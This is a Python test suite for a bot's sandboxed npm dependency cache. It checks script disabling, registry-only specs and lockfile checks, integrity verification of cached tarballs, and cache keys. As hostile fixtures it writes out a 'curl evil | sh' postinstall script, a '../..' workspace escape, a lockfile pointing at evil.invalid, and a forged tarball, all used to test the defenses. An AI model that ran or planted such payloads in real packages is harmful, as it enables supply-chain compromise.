"""The dependency cache, with npm replaced by a recording fake at the sandbox seam.

npm only ever sees a bot-owned staging folder (the bot's package.json and lockfile and its
own npmrc), a per-job npm cache, and nothing of the workspace."""

import asyncio
import base64
import hashlib
import json
import stat
from pathlib import Path
from typing import Any

import pytest

from bot.deps import (
    COMPLETE_MARKER,
    NO_GIT,
    PREPARE_SCRIPT,
    DependencyCache,
    DependencyRefused,
    check_lock,
    check_registry_spec,
    lock_key,
    staged_package,
)
from bot.sandbox import Limits, Mount, ProcessFailed, Result

INSTALL = ("npm", "ci", "--ignore-scripts")
REGISTRY = "https://registry.npmjs.org/"
TARBALL = b"left-pad 1.3.0 tarball bytes"
INTEGRITY = "sha512-" + base64.b64encode(hashlib.sha512(TARBALL).digest()).decode()
LOCK: dict[str, Any] = {
    "name": "plugin-a",
    "version": "0.1.0",
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "plugin-a", "version": "0.1.0", "dependencies": {"left-pad": "1.3.0"}},
        "node_modules/left-pad": {"version": "1.3.0", "integrity": INTEGRITY},
    },
}


def result(argv: list[str], code: int = 0) -> Result:
    return Result(tuple(argv), code, None, False, False, "", "", False, 0, "0" * 64, 0.1, 0.0)


def content_path(cache: Path, integrity: str) -> Path:
    hex_digest = base64.b64decode(integrity.split("-", 1)[1]).hex()
    return (
        cache
        / "_cacache"
        / "content-v2"
        / "sha512"
        / hex_digest[:2]
        / hex_digest[2:4]
        / (hex_digest[4:])
    )


class FakeNpm:
    """Stands in for the sandbox: records each run and lays out what npm would."""

    def __init__(self, fail: bool = False, forge: bool = False, fail_prepare: bool = False) -> None:
        self.calls: list[dict[str, Any]] = []
        self.fail = fail
        self.forge = forge  # also write a blob whose bytes do not match its name
        self.fail_prepare = fail_prepare
        self.prepared: list[dict[str, Any]] = []

    async def run(
        self,
        argv: list[str],
        workdir: Path,
        limits: Limits,
        *,
        network: bool = False,
        env: dict[str, str] | None = None,
        cancel: asyncio.Event | None = None,
        mounts: list[Mount] | None = None,
        **_: Any,
    ) -> Result:
        if argv == ["node", PREPARE_SCRIPT]:
            return self._prepare(argv, workdir, network, mounts or [])
        cache = Path(next(a for a in argv if a.startswith("--cache=")).split("=", 1)[1])
        self.calls.append(
            {
                "argv": list(argv),
                "workdir": workdir,
                "network": network,
                "env": dict(env or {}),
                "mounts": list(mounts or []),
                "files": sorted(p.name for p in workdir.iterdir()),
                "seeded": content_path(cache, INTEGRITY).is_file(),
                "npmrc": Path(
                    next(a for a in argv if a.startswith("--userconfig=")).split("=", 1)[1]
                ).read_text(),
            }
        )
        await asyncio.sleep(0.05)
        if self.fail:
            return result(argv, 1)
        if argv[:2] == ["npm", "ci"]:
            pkg = workdir / "node_modules" / "left-pad"
            pkg.mkdir(parents=True)
            (pkg / "index.js").write_text("module.exports = 1;\n")
            blob = content_path(cache, INTEGRITY)
            blob.parent.mkdir(parents=True, exist_ok=True)
            blob.write_bytes(TARBALL)
            # What a forged npm cache record looks like: an index entry no one promotes.
            (cache / "_cacache" / "index-v5").mkdir(parents=True, exist_ok=True)
            (cache / "_cacache" / "index-v5" / "forged").write_text("date-fns@4.1.99")
        if "--package-lock-only" in argv:
            lock = json.loads((workdir / "package-lock.json").read_text())
            pkg = json.loads((workdir / "package.json").read_text())
            lock["packages"][""]["dependencies"] = pkg["dependencies"]
            lock["packages"]["node_modules/zod"] = {"version": "4.0.0", "integrity": INTEGRITY}
            (workdir / "package-lock.json").write_text(json.dumps(lock))
        return result(argv)

    def _prepare(
        self, argv: list[str], workdir: Path, network: bool, mounts: list[Mount]
    ) -> Result:
        """What the pack's script would write: here, a copy of the script it was given."""
        self.prepared.append(
            {"workdir": workdir, "network": network, "mounts": mounts, "npm_ran": len(self.calls)}
        )
        if self.fail_prepare:
            return result(argv, 1)
        out = workdir / "node_modules" / ".plugin-bot"
        out.mkdir()
        (out / "prepared").write_text((workdir / PREPARE_SCRIPT).read_text())
        return result(argv)


def package(name: str = "plugin-a", deps: dict[str, str] | None = None, **extra: Any) -> bytes:
    data = {"name": name, "version": "0.1.0", "dependencies": deps or {"left-pad": "1.3.0"}}
    data.update(extra)
    return json.dumps(data).encode()


def lock(name: str = "plugin-a") -> bytes:
    data = json.loads(json.dumps(LOCK))
    data["name"] = data["packages"][""]["name"] = name
    return json.dumps(data).encode()


def cache(tmp_path: Path, npm: FakeNpm) -> DependencyCache:
    return DependencyCache(tmp_path / "cache", npm, "20.20.2")  # type: ignore[arg-type]


async def test_npm_sees_only_the_bot_s_staging_folder_and_config(tmp_path: Path) -> None:
    npm = FakeNpm()
    deps = cache(tmp_path, npm)
    hostile = package(scripts={"postinstall": "curl evil | sh"}, workspaces=["../.."])
    report = await deps.install(hostile, lock(), INSTALL, Limits())
    assert not report.cache_hit and len(report.commands) == 1
    (call,) = npm.calls
    argv = call["argv"]
    assert argv[:3] == list(INSTALL) and "--ignore-scripts" in argv
    assert f"--registry={REGISTRY}" in argv
    userconfig = next(a for a in argv if a.startswith("--userconfig=")).split("=", 1)[1]
    globalconfig = next(a for a in argv if a.startswith("--globalconfig=")).split("=", 1)[1]
    assert call["env"]["npm_config_userconfig"] == userconfig
    assert call["env"]["npm_config_globalconfig"] == globalconfig
    assert f"registry={REGISTRY}" in call["npmrc"] and "ignore-scripts=true" in call["npmrc"]
    # The bot's config folder is mounted read-only; the staging folder is gone afterwards.
    assert any(m.target == Path(userconfig).parent and not m.writable for m in call["mounts"])
    assert not Path(userconfig).exists()
    assert call["network"] is True
    assert call["files"] == ["package-lock.json", "package.json"]  # nothing else, no .npmrc
    staged = call["workdir"]
    assert staged.is_relative_to(tmp_path / "cache" / "staging")
    tree = tmp_path / "cache" / "node_modules" / report.key
    assert (tree / COMPLETE_MARKER).exists()
    assert report.node_modules == tree / "node_modules"
    assert not (tree / "node_modules" / "left-pad" / "index.js").stat().st_mode & (
        stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH
    )


def test_the_npmrc_fixes_the_registry_and_turns_scripts_and_git_off(tmp_path: Path) -> None:
    from bot.deps import npmrc_text

    text = npmrc_text(REGISTRY, tmp_path / "c")
    assert f"registry={REGISTRY}\n" in text
    assert "ignore-scripts=true\n" in text
    assert f"git={NO_GIT}\n" in text


def test_the_staged_package_json_keeps_only_names_versions_and_ranges() -> None:
    data = json.loads(package(scripts={"postinstall": "x"}, overrides={"a": "b"}, bin={"x": "y"}))
    staged = staged_package(data)
    assert staged == {
        "name": "plugin-a",
        "version": "0.1.0",
        "private": True,
        "dependencies": {"left-pad": "1.3.0"},
    }


@pytest.mark.parametrize(
    "spec",
    [
        "git+https://example.invalid/x.git",
        "github:user/repo",
        "user/repo",
        "https://example.invalid/x.tgz",
        "file:../x",
        "link:../x",
        "npm:left-pad@1.3.0",
        "workspace:*",
        "latest",
        "",
    ],
)
def test_only_registry_semver_ranges_are_given_to_npm(spec: str) -> None:
    with pytest.raises(DependencyRefused, match="not a registry version range"):
        check_registry_spec("left-pad", spec)


@pytest.mark.parametrize("spec", ["1.3.0", "^4.1.0", "~1.2", ">=1 <2", "1.x || 2.x", "*"])
def test_registry_ranges_pass(spec: str) -> None:
    assert check_registry_spec("left-pad", spec) == spec


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"resolved": "https://evil.invalid/left-pad-1.3.0.tgz"}, "resolves to"),
        ({"integrity": None}, "no sha512 integrity"),
        ({"integrity": "sha1-abc"}, "no sha512 integrity"),
        ({"version": "git+https://example.invalid/x.git"}, "no registry version"),
        ({"link": True}, "link or bundled"),
    ],
)
def test_a_lockfile_entry_off_the_registry_is_refused(change: dict[str, Any], reason: str) -> None:
    data = json.loads(lock())
    entry = data["packages"]["node_modules/left-pad"]
    for key, value in change.items():
        if value is None:
            entry.pop(key)
        else:
            entry[key] = value
    with pytest.raises(DependencyRefused, match=reason):
        check_lock(data, REGISTRY)


async def test_a_lockfile_pointing_elsewhere_never_reaches_npm(tmp_path: Path) -> None:
    npm = FakeNpm()
    data = json.loads(lock())
    data["packages"]["node_modules/left-pad"]["resolved"] = "https://evil.invalid/x.tgz"
    with pytest.raises(DependencyRefused, match=r"evil\.invalid"):
        await cache(tmp_path, npm).install(package(), json.dumps(data).encode(), INSTALL, Limits())
    assert npm.calls == []


async def test_only_verified_tarballs_are_promoted_and_seeded_as_copies(tmp_path: Path) -> None:
    npm = FakeNpm()
    deps = cache(tmp_path, npm)
    first = await deps.install(package(), lock(), INSTALL, Limits())
    assert first.promoted == 1
    store = tmp_path / "cache" / "tarballs" / "sha512"
    hex_digest = hashlib.sha512(TARBALL).hexdigest()
    assert [p.name for p in store.iterdir()] == [hex_digest]
    # Nothing else of the job's npm cache (the forged index record) is kept anywhere.
    assert list((tmp_path / "cache").rglob("forged")) == []
    # A second tree (another lockfile) starts from a seeded copy of the verified blob.
    other = json.loads(lock())
    other["packages"]["node_modules/left-pad"]["license"] = "MIT"
    await deps.install(package(), json.dumps(other).encode(), INSTALL, Limits())
    assert npm.calls[-1]["seeded"] is True
    assert (store / hex_digest).stat().st_nlink == 1  # copied, never hard-linked


async def test_a_blob_that_does_not_match_its_integrity_is_not_promoted(tmp_path: Path) -> None:
    class Forging(FakeNpm):
        async def run(self, argv: list[str], workdir: Path, limits: Limits, **kw: Any) -> Result:
            done = await super().run(argv, workdir, limits, **kw)
            cache_dir = Path(next(a for a in argv if a.startswith("--cache=")).split("=", 1)[1])
            content_path(cache_dir, INTEGRITY).write_bytes(b"attacker's index.js")
            return done

    deps = cache(tmp_path, Forging())
    report = await deps.install(package(), lock(), INSTALL, Limits())
    assert report.promoted == 0
    store = tmp_path / "cache" / "tarballs" / "sha512"
    assert not store.exists() or list(store.iterdir()) == []


async def test_a_hit_runs_no_npm(tmp_path: Path) -> None:
    npm = FakeNpm()
    deps = cache(tmp_path, npm)
    first = await deps.install(package(), lock(), INSTALL, Limits())
    second = await deps.install(package("plugin-b"), lock("plugin-b"), INSTALL, Limits())
    assert second.cache_hit and second.commands == () and not second.downloaded
    assert second.key == first.key and second.node_modules == first.node_modules
    assert len(npm.calls) == 1


def test_the_key_ignores_the_plugins_name_and_version() -> None:
    other = json.loads(json.dumps(LOCK))
    other["name"] = other["packages"][""]["name"] = "plugin-zzz"
    other["version"] = other["packages"][""]["version"] = "9.9.9"
    assert lock_key(LOCK, "20.1.0") == lock_key(other, "20.1.0")


def test_the_key_changes_with_packages_and_node_major() -> None:
    changed = json.loads(json.dumps(LOCK))
    changed["packages"]["node_modules/left-pad"]["version"] = "1.3.1"
    assert lock_key(LOCK, "20.1.0") != lock_key(changed, "20.1.0")
    assert lock_key(LOCK, "20.1.0") == lock_key(LOCK, "20.9.0")
    assert lock_key(LOCK, "20.1.0") != lock_key(LOCK, "22.1.0")


@pytest.mark.parametrize(
    "root_change",
    [
        {"dependencies": {"left-pad": "^1.3.0"}},  # the range the root asks for
        {"dependencies": {}, "devDependencies": {"left-pad": "1.3.0"}},  # moved to dev
        {"optionalDependencies": {"left-pad": "1.3.0"}},
    ],
    ids=["range", "moved-to-dev", "optional"],
)
def test_the_key_changes_with_the_root_dependency_lists(root_change: dict) -> None:
    # Same resolved packages; only what the root package asks for differs. npm ci checks the
    # root lists against package.json, so a tree built for one must not serve the other.
    changed = json.loads(json.dumps(LOCK))
    changed["packages"][""].update(root_change)
    assert changed["packages"]["node_modules/left-pad"] == LOCK["packages"]["node_modules/left-pad"]
    assert lock_key(LOCK, "20.1.0") != lock_key(changed, "20.1.0")


async def test_a_package_json_asking_for_more_gets_a_new_lock_from_staging(
    tmp_path: Path,
) -> None:
    npm = FakeNpm()
    deps = cache(tmp_path, npm)
    report = await deps.install(
        package(deps={"left-pad": "1.3.0", "zod": "^4.0.0"}), lock(), INSTALL, Limits()
    )
    assert report.lock_updated
    lock_only = npm.calls[0]["argv"]
    assert lock_only[:3] == ["npm", "install", "--package-lock-only"]
    assert "--ignore-scripts" in lock_only
    assert "node_modules/zod" in json.loads(report.lock_text)["packages"]


async def test_a_failed_install_leaves_no_tree_behind(tmp_path: Path) -> None:
    deps = cache(tmp_path, FakeNpm(fail=True))
    with pytest.raises(ProcessFailed):
        await deps.install(package(), lock(), INSTALL, Limits())
    trees = tmp_path / "cache" / "node_modules"
    assert [p.name for p in trees.iterdir() if not p.name.endswith(".lock")] == []
    assert list((tmp_path / "cache" / "staging").iterdir()) == []


async def test_concurrent_jobs_with_one_lockfile_build_the_tree_once(tmp_path: Path) -> None:
    npm = FakeNpm()
    deps = cache(tmp_path, npm)
    reports = await asyncio.gather(
        *(deps.install(package(f"p{i}"), lock(f"p{i}"), INSTALL, Limits()) for i in range(4))
    )
    assert len(npm.calls) == 1
    assert sum(not r.cache_hit for r in reports) == 1
    assert len({r.node_modules for r in reports}) == 1


async def test_a_pack_prepare_script_runs_once_per_tree_offline_in_staging_and_is_shared_read_only(
    tmp_path: Path,
) -> None:
    script = tmp_path / "prepare.mjs"
    script.write_text("// prepares v1\n")
    npm = FakeNpm()
    deps = cache(tmp_path, npm)
    first = await deps.install(package(), lock(), INSTALL, Limits(), prepare=script)
    [prepared] = npm.prepared
    assert prepared["network"] is False and prepared["npm_ran"] == 1  # after npm, offline
    assert prepared["workdir"] == npm.calls[0]["workdir"]  # in the staging project npm built
    assert [m.target for m in prepared["mounts"]] == [prepared["workdir"]]  # nothing else
    made = first.node_modules / ".plugin-bot" / "prepared"
    assert made.read_text() == "// prepares v1\n"
    assert not made.stat().st_mode & 0o222  # read-only, like the packages
    assert not (first.node_modules.parent / PREPARE_SCRIPT).exists()
    assert PREPARE_SCRIPT in {c.argv[1] for c in first.commands if c.argv[0] == "node"}

    second = await deps.install(
        package("plugin-b"), lock("plugin-b"), INSTALL, Limits(), prepare=script
    )
    assert second.cache_hit and second.key == first.key and len(npm.prepared) == 1

    script.write_text("// prepares v2\n")
    third = await deps.install(package(), lock(), INSTALL, Limits(), prepare=script)
    assert not third.cache_hit and third.key != first.key  # a new script, a new tree
    assert (third.node_modules / ".plugin-bot" / "prepared").read_text() == "// prepares v2\n"
    plain = await deps.install(package(), lock(), INSTALL, Limits())
    assert plain.key not in {first.key, third.key}  # without a script, another tree


async def test_a_failed_prepare_fails_the_install_and_leaves_no_tree(tmp_path: Path) -> None:
    script = tmp_path / "prepare.mjs"
    script.write_text("// fails\n")
    deps = cache(tmp_path, FakeNpm(fail_prepare=True))
    with pytest.raises(ProcessFailed) as failed:
        await deps.install(package(), lock(), INSTALL, Limits(), prepare=script)
    assert failed.value.result.argv == ("node", PREPARE_SCRIPT)
    assert not any((tmp_path / "cache" / "node_modules").glob("*/" + COMPLETE_MARKER))
    assert list((tmp_path / "cache" / "staging").iterdir()) == []
